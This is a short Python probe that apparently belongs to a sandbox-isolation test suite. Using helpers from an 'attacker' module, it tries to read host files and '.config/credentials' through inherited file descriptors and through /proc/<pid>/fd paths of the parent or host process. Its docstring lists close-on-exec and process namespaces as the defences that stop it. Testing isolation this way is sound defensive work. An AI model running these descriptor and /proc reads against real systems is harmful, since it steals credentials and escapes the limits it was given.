"""Read files of the host through descriptors that were inherited, or are open in other processes.

kind: secrets
stopped by: close-on-exec, process namespace
"""

import os

from attacker import TOLD, look, read

for number in range(3, 1024):
    try:
        os.fstat(number)
    except OSError:
        continue
    look(f"read descriptor {number}", lambda number=number: os.pread(number, 4096, 0))
    look(f"read beside descriptor {number}", lambda number=number: os.pread(
        os.open(".config/credentials", os.O_RDONLY, dir_fd=number), 4096, 0
    ))  # fmt: skip
for number in TOLD["descriptors"]:
    for boss in (os.getppid(), TOLD["host"]):
        path = f"/proc/{boss}/fd/{number}"
        look(f"read {path}", lambda path=path: read(path))
        look(f"climb from {path}", lambda path=path: read(f"{path}/.config/credentials"))
